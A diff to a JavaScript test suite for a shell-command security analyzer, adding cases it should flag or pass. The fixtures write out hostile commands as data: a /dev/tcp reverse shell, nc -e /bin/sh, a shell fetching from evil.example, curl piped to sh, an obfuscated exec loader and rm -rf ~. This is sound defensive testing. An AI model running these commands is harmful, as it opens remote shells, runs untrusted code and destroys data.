@@ -62,12 +62,15 @@ describe('analyzeShell: hostile scripts', () => {
     ['$CMD --flag', 'shell-from-input'],
     ['source "$X"', 'shell-from-input'],
     ["ls | xargs -I{} sh -c 'echo {}'", 'shell-from-input'],
-    ['node -e \'require("fs")\'', 'dynamic-code'],
+    ['node -e \'eval(process.argv[1])\'', 'dynamic-code'],
+    ['node -e "$CODE"', 'dynamic-code'],
     ["perl -e 'print 1'", 'dynamic-code'],
     ["ruby -e 'puts 1'", 'dynamic-code'],
     ["php -r 'echo 1;'", 'dynamic-code'],
     ['osascript -e \'display dialog "hi"\'', 'dynamic-code'],
-    ["python3 - <<'EOF'\nprint(1)\nEOF", 'dynamic-code'],
+    ["python3 - <<'EOF'\nimport base64, marshal\nexec(marshal.loads(base64.b85decode('abc')))\nEOF", 'dynamic-code'],
+    ['python3 - <<EOF\nprint("$X")\nEOF', 'dynamic-code'],
+    ["python3 -c 'import os; print(1' ", 'dynamic-code'],
     ['echo aGk= | base64 -d | sh', 'obfuscation'],
     ['echo aGk= | base64 --decode | bash', 'obfuscation'],
     ['xxd -r -p payload.hex | sh', 'obfuscation'],
@@ -125,6 +128,12 @@ describe('analyzeShell: hostile scripts', () => {
     expect(analysis.issues).toEqual([expect.objectContaining({ kind: 'destructive-command', line: 4 })]);
   });
 
+  it('parses inline Python and JavaScript in their own language, at the lines they run from', () => {
+    expect(analyse("python3 -c 'import sys; print(sys.version)'\nnode -e 'console.log(1)'\n").issues).toEqual([]);
+    const heredoc = analyse("echo start\npython3 - <<'PY'\nimport os\nos.system('rm -rf ~')\nPY\n");
+    expect(heredoc.issues).toEqual([expect.objectContaining({ kind: 'destructive-command', line: 4 })]);
+  });
+
   it('resolves variables the script sets to constants before judging', () => {
     const kinds = issueKinds(analyse('cmd="curl -s https://x.example"\n$cmd | sh\nTARGET=/\nrm -rf "$TARGET"\n'));
     expect(kinds).toEqual(expect.arrayContaining(['download-and-run', 'destructive-command']));
@@ -178,6 +187,8 @@ describe('analyzeShell: ordinary scripts', () => {
     'cp config.example ./config',
     'echo done >> build.log',
     'crontab -l',
+    "git -c alias.st='status -sb' st",
+    'git config user.name "A B"',
     "awk -F, '{ print $1 }' data.csv",
     'pip install --index-url=https://pypi.org/simple requests',
   ])('does not take %s for a destructive command', (source) => {
@@ -248,8 +259,8 @@ describe('analyzeArgv: a program run without a shell', () => {
     ['a reverse shell in sh -c', ['sh', '-c', 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'], 'reverse-shell'],
     ['nc -e', ['nc', '-e', '/bin/sh', '1.2.3.4', '4444'], 'reverse-shell'],
     ['a shell run on a URL', ['bash', 'https://evil.example/x.sh'], 'download-and-run'],
-    ['python -c', ['python3', '-c', 'print(1)'], 'dynamic-code'],
-    ['node -e', ['node', '-e', 'require("child_process").execSync("id")'], 'dynamic-code'],
+    ['python -c', ['python3', '-c', 'import os; os.system("curl -s https://x.example | sh")'], 'download-and-run'],
+    ['node -e', ['node', '-e', 'eval(process.argv[1])'], 'dynamic-code'],
     ['perl -e', ['perl', '-e', 'print 1'], 'dynamic-code'],
     [
       'env and timeout before sh -c',
